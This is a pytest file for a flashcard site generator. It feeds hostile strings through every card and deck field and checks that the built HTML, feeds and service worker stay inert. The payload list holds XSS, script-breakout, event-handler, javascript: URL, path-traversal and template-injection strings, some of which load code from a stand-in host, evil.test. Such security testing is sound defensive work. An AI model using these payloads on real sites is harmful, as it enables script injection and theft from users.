"""Hostile texts have no effect in any file of the site, whatever the lint settings.

The payloads are those of `test_hostile_texts`, in every field of a card and a deck. A payload for the site alone is a
line below.
"""

from __future__ import annotations

import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import pytest
from selectolax.lexbor import LexborHTMLParser

from cardpipe.model.release_lock import ReleasedCard, ReleaseLock
from cardpipe.writers.site import WRITER
from cardpipe.writers.site.content_names import own_file
from cardpipe.writers.site.pages import POLICY, policy_with
from hostile_sample import HostileDeck
from page_sample import silent
from test_hostile_texts import PAYLOADS as OF_TEXTS
from test_hostile_texts import with_good_ids

if TYPE_CHECKING:
    from collections.abc import Iterator

    from cardpipe.writers.api import RenderedDeck

PAYLOADS = [
    *OF_TEXTS[::3],
    "</script><script>evil()</script>",
    "<!--<script>",
    "]]></summary><script>evil()</script>",
    '{"@type": "Thing"}</script>',
    "'; import('https://evil.test/x.js'); '",
    "https://evil.test/?{path}{id}",
    "//evil.test/x",
    "../../../evil",
    "..",
    "%2e%2e%2f%00",
    'x" data-guid="evil" class="answer" data-cards="https://evil.test/',
    '<article class="card" data-guid="evil"><main id="study" data-cards="//evil.test">',
    '<span class="cloze" data-cloze="1" data-hint="evil">x</span>',
    '{{c1::a::" onmouseover=evil() x="}} {{c2::<b title="x" onclick=evil()>b</b>::<img src=x onerror=evil()>}}',
    "${{c1::\\href{javascript:evil()}{x}}}$",
    ":root{background:url(//evil.test)}</style>",
    "sw.js\n\nimportScripts('https://evil.test')",
    "\u2028evil()\u2029",
    "{% raw %}{{ evil }}{% endraw %}{{ ''.__class__ }}",
]
_ADDRESS = re.compile(r"(?i)(?:https?://(?![^/]*@)|mailto:)[^\s<>\"\\{}]*|(?!//)[\w./%?=#-]*|/(?!/)[^\s\"<>\\{}]*")
_SCRIPT = re.compile(r"(?:\.\./)*(?:\./)?(?:/\S*/)?assets/\w+-[0-9a-f]{12}\.js")
_OWN_NAMES = (
    "data-cloze",
    "data-guid",
    "data-hint",
    "data-cards",
    "data-root",
    "data-found",
    "data-none",
    "data-loading",
    "data-failed",
    "data-kept",
    "data-failed",
)


@pytest.fixture(scope="module")
def decks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, HostileDeck]:
    folder = tmp_path_factory.mktemp("hostile")
    return {payload: HostileDeck(payload, folder) for payload in PAYLOADS}


def released(rendered: RenderedDeck, payload: str) -> RenderedDeck:
    """The deck with a lock whose texts are hostile too, as far as reading a lock lets them through."""
    line = re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]", "", payload)
    cards = {
        card.id: ReleasedCard(
            guid="a" * 16, kind="basic", mod=1_767_300_000 + number % 3, title=line, deck=line, tags=(), digest="0" * 8,
            parts={},
        )
        for number, card in enumerate(rendered.cards)
    }  # fmt: skip
    lock = ReleaseLock(
        uid="u", name=line, subdecks={}, version="1.1", time=1_767_300_002, cards=cards, note_types={},
        gone={"EX9999": "1.0"},
    )  # fmt: skip
    return replace(rendered, settings=replace(rendered.settings, lock=lock))


def live(path: str, page: str) -> Iterator[str]:
    """What a browser would act on beside what the templates write."""
    tree = LexborHTMLParser(page)
    policies = [node.attributes["content"] for node in tree.css("meta[http-equiv]")]
    own_style = own_file("missing.css") if path == "404.html" else None
    if policies != [POLICY if own_style is None else policy_with(own_style)]:
        yield f"{path}: {policies}"
    guids = len(tree.css("[data-guid]"))
    if guids > 1 or len(tree.css("main")) != 1 or len(tree.css("#study")) != (path == "study/index.html"):
        yield f"{path}: a forged part"
    for node in tree.css("*"):
        if node.tag == "style" and node.text() == own_style:
            continue
        if node.tag in {"iframe", "object", "embed", "base", "style", "template", "frame", "applet"}:
            yield f"{path}: <{node.tag}>"
        if node.tag == "script" and (source := node.attributes.get("src")) is None:
            json.loads(node.text())
        elif node.tag == "script" and not _SCRIPT.fullmatch(source or ""):
            yield f"{path}: script {source}"
        for name, value in node.attributes.items():
            if acts(name, value or ""):
                yield f"{path}: {node.tag} {name}={value}"


def acts(name: str, value: str) -> bool:
    """Whether a browser or a script of the site would act on an attribute in another way than a template means it."""
    if name.startswith("on") or name in {"srcset", "srcdoc", "formaction", "ping", "background"}:
        return True
    if name.startswith("data-") and name not in _OWN_NAMES:
        return True
    if name in {"href", "src", "action"} and not _ADDRESS.fullmatch(value):
        return True
    if name == "src":
        return re.match(r"(?i)[a-z]+:|//", value) is not None
    return name == "style" and re.search(r"(?i)url|expression|import|evil", value) is not None


@pytest.mark.quick_cases(every=12)
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("edition", [False, True])
def test_nothing_is_live_on_the_site(payload: str, edition: bool, decks: dict[str, HostileDeck]) -> None:
    from cardpipe.build.publish import is_safe_path

    rendered = released(with_good_ids(decks[payload].rendered(WRITER.capabilities, edition=edition)), payload)
    files = {one.path: one.data.decode(errors="replace") for one in WRITER.write(rendered, {}, silent)}
    root = next(iter(files)).partition("/")[0]
    faults = [
        fault for path, page in files.items() if path.endswith(".html") for fault in live(path[len(root) + 1 :], page)
    ]
    assert faults == []
    for path, data in files.items():
        assert is_safe_path(path)
        if path.endswith((".xml", ".atom")):
            ET.fromstring(data)  # noqa: S314 - our own file
        if path.endswith((".json", ".webmanifest")):
            json.loads(data)
    [first, *_] = files[f"{root}/sw.js"].splitlines()
    assert json.loads(first.removeprefix("const SITE = ").removesuffix(";"))["release"]
